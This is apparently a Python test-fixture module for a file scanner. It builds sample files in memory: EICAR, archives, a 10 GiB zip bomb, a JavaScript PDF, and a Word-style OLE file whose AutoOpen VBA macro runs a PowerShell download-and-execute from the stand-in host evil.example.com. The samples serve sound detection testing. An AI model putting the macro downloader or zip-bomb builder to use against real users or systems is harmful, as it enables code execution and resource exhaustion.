"""Sample files built by the tests themselves: EICAR, archives, bombs, a macro document, a PDF.

Nothing here is downloaded. The Office sample is a real OLE compound file holding a real
VBA project (MS-CFB + MS-OVBA), written by the small writer below so oletools parses it
the way it parses a document saved by Word.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import pyzipper

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def aes_zip_bytes(members: dict[str, bytes], password: bytes) -> bytes:
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as z:
        z.setpassword(password)
        for name, data in members.items():
            z.writestr(name, data)
    return buffer.getvalue()


def tar_bytes(members: dict[str, bytes], mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def tar_gz_bytes(members: dict[str, bytes]) -> bytes:
    return gzip.compress(tar_bytes(members), mtime=0)


def compressed(kind: str, data: bytes) -> bytes:
    return {
        "gzip": lambda: gzip.compress(data, mtime=0),
        "bz2": lambda: bz2.compress(data),
        "xz": lambda: lzma.compress(data),
    }[kind]()


def zeros_deflate_stream(total_bytes: int) -> bytes:
    """A raw deflate stream of `total_bytes` zeros, built without compressing them all.

    One MiB of zeros is compressed and flushed so the next block starts afresh; that
    compressed block is then repeated, which is a valid stream of as many MiB as wanted.
    """
    block = 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    return first + repeated * (total_bytes // block - 1) + compressor.flush(zlib.Z_FINISH)


def zip_bomb_bytes(members: int = 10, member_bytes: int = 1024**3) -> bytes:
    """A zip of `members` entries of `member_bytes` zeros each (10 GiB by default, ~10 MB on disk)."""
    stream = zeros_deflate_stream(member_bytes)
    crc = 0  # a 1 GiB member is never read to its end (the limits stop it first)
    if member_bytes <= 256 * 1024**2:
        for _ in range(member_bytes // (1024 * 1024)):
            crc = zlib.crc32(bytes(1024 * 1024), crc)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(members):
            info = zipfile.ZipInfo(f"zeros-{number}.bin")
            info.compress_type = zipfile.ZIP_DEFLATED
            # Write the precompressed stream as-is through the raw member API.
            write_raw_member(archive, info, stream, crc, member_bytes)
    return buffer.getvalue()


def write_raw_member(
    archive: zipfile.ZipFile, info: zipfile.ZipInfo, stream: bytes, crc: int, size: int
) -> None:
    info.CRC = crc
    info.compress_size = len(stream)
    info.file_size = size
    info.flag_bits = 0
    info.header_offset = archive.fp.tell()  # type: ignore[union-attr]
    info.create_system = 3
    info.extract_version = 20
    archive.fp.write(info.FileHeader(zip64=size > 0xFFFFFFFF))  # type: ignore[union-attr]
    archive.fp.write(stream)  # type: ignore[union-attr]
    archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
    archive.filelist.append(info)
    archive.NameToInfo[info.filename] = info
    archive._didModify = True  # type: ignore[attr-defined]


# --- PDF -------------------------------------------------------------------------------


def pdf_with_javascript() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
    ]
    return build_pdf(objects)


def plain_pdf() -> bytes:
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def build_pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# --- Office: an OLE compound file with a VBA project -------------------------------------

MACRO_SOURCE = (
    'Attribute VB_Name = "Module1"\r\n'
    "Sub AutoOpen()\r\n"
    "    Dim shell\r\n"
    '    Set shell = CreateObject("WScript.Shell")\r\n'
    "    shell.Run \"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a')\"\r\n"
    "End Sub\r\n"
)


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA compression using literal tokens only: valid, if not small."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start : start + 4096]
        body = bytearray()
        for group in range(0, len(chunk), 8):
            body += b"\x00" + chunk[group : group + 8]
        header = (len(body) + 2 - 3) | 0x3000 | 0x8000
        out += struct.pack("<H", header) + body
    return bytes(out)


def vba_dir_stream(module: str) -> bytes:
    def record(record_id: int, data: bytes) -> bytes:
        return struct.pack("<HI", record_id, len(data)) + data

    name = module.encode()
    unicode_name = module.encode("utf-16-le")
    return (
        record(0x01, struct.pack("<I", 1))
        + record(0x02, struct.pack("<I", 0x409))
        + record(0x14, struct.pack("<I", 0x409))
        + record(0x03, struct.pack("<H", 1252))
        + record(0x04, b"VBAProject")
        + record(0x05, b"")
        + struct.pack("<HI", 0x40, 0)
        + record(0x06, b"")
        + struct.pack("<HI", 0x3D, 0)
        + record(0x07, struct.pack("<I", 0))
        + record(0x08, struct.pack("<I", 0))
        + struct.pack("<HIIH", 0x09, 4, 1, 0)
        + record(0x0C, b"")
        + struct.pack("<HI", 0x3C, 0)
        + struct.pack("<H", 0x0F)
        + struct.pack("<IH", 2, 1)
        + struct.pack("<HIH", 0x13, 2, 0xFFFF)
        + record(0x19, name)
        + record(0x1A, name)
        + struct.pack("<HI", 0x32, len(unicode_name))
        + unicode_name
        + record(0x31, struct.pack("<I", 0))
        + struct.pack("<HI", 0x21, 0)
        + struct.pack("<HI", 0x2B, 0)
        + struct.pack("<HI", 0x10, 0)
    )


def vba_project_streams(source: str = MACRO_SOURCE) -> dict[str, bytes]:
    return {
        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n',
        "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "VBA/dir": ovba_compress(vba_dir_stream("Module1")),
        "VBA/Module1": ovba_compress(source.encode("cp1252")),
    }


SECTOR = 512
MINI_SECTOR = 64
FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def ole_bytes(streams: dict[str, bytes]) -> bytes:
    """A minimal MS-CFB v3 file: every stream (< 4 KiB) in the mini stream; storages from paths."""
    # Directory tree: root, then storages and streams named by their paths.
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": []}]
    by_path = {"": 0}
    for path in sorted(streams):
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            sub = "/".join(parts[:depth])
            if sub in by_path:
                continue
            is_stream = depth == len(parts)
            entries.append(
                {"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": [], "path": sub}
            )
            by_path[sub] = len(entries) - 1
            entries[by_path["/".join(parts[: depth - 1])]]["children"].append(len(entries) - 1)
    mini = bytearray()
    minifat: list[int] = []
    for entry in entries:
        if entry["type"] != 2:
            continue
        data = streams[entry["path"]]
        assert len(data) < 4096
        entry["start"], entry["size"] = len(mini) // MINI_SECTOR, len(data)
        count = max(1, -(-len(data) // MINI_SECTOR))
        minifat += [len(minifat) + i + 1 for i in range(count - 1)] + [END]
        mini += data.ljust(count * MINI_SECTOR, b"\0")
    # Sibling links: each storage's children chained through right siblings, in CFB order.
    for entry in entries:
        kids = sorted(entry["children"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper()))
        entry["child"] = kids[0] if kids else NO_STREAM
        for left, right in zip(kids, [*kids[1:], NO_STREAM], strict=False):
            entries[left]["right"] = right
    directory_sectors = -(-len(entries) // 4)
    mini_stream_sectors = -(-len(mini) // SECTOR)
    # Layout: FAT (1 sector), directory, mini FAT (1 sector), mini stream.
    first_directory, first_minifat = 1, 1 + directory_sectors
    first_mini_stream = first_minifat + 1
    total = first_mini_stream + mini_stream_sectors
    assert total <= 128 and len(minifat) <= 128
    fat = [FAT_SECTOR]
    fat += [first_directory + i + 1 for i in range(directory_sectors - 1)] + [END]
    fat += [END]
    fat += [first_mini_stream + i + 1 for i in range(mini_stream_sectors - 1)] + [END]
    fat += [FREE] * (128 - len(fat))
    entries[0]["start"], entries[0]["size"] = first_mini_stream, len(mini)
    directory = bytearray()
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        directory += name.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ",
            len(name),
            entry["type"],
            1,
            NO_STREAM,
            entry.get("right", NO_STREAM),
            entry["child"],
            b"\0" * 16,
            0,
            0,
            0,
            entry.get("start", END if entry["type"] != 1 else 0),
            entry.get("size", 0),
        )
    directory = directory.ljust(directory_sectors * SECTOR, b"\0")
    for padding in range(len(entries), directory_sectors * 4):
        directory[padding * 128 : padding * 128 + 128] = (
            b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, NO_STREAM, NO_STREAM, NO_STREAM)
        ).ljust(128, b"\0")
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16)
    header += struct.pack(
        "<HHHHH6sIIIIIIIII",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        1,
        first_directory,
        0,
        4096,
        first_minifat,
        1,
        END,
        0,
    )
    header += struct.pack("<I", 0) + struct.pack("<I", FREE) * 108
    return bytes(
        header
        + struct.pack("<128I", *fat)
        + directory
        + struct.pack("<128I", *(minifat + [FREE] * (128 - len(minifat))))
        + bytes(mini).ljust(mini_stream_sectors * SECTOR, b"\0")
    )


def office_macro_document() -> bytes:
    """A Word-97-style OLE file whose VBA project runs a downloader on open."""
    return ole_bytes(vba_project_streams())


# --- Executables on every machine --------------------------------------------------------


def distlib_launcher() -> Path:
    """A Windows PE launcher that pip vendors (distlib), present wherever pip is."""
    import pip._vendor.distlib as distlib

    candidates = sorted(Path(distlib.__file__).parent.glob("*.exe"))
    preferred = [path for path in candidates if path.name in ("t64.exe", "w64.exe")]
    return (preferred or candidates)[0]


def python_elf() -> Path:
    return Path(sys.executable).resolve()


def many_entries_zip_bytes(entries: int) -> bytes:
    """A zip of `entries` empty stored members, written directly (zipfile is slow at this)."""
    local, central, offset = [], [], 0
    for number in range(entries):
        name = f"f{number}.txt".encode()
        header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        central.append(
            struct.pack(
                "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset
            )
            + name
        )
        local.append(header)
        offset += len(header)
    directory = b"".join(central)
    count = min(entries, 0xFFFF)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), offset, 0)
    return b"".join(local) + directory + end
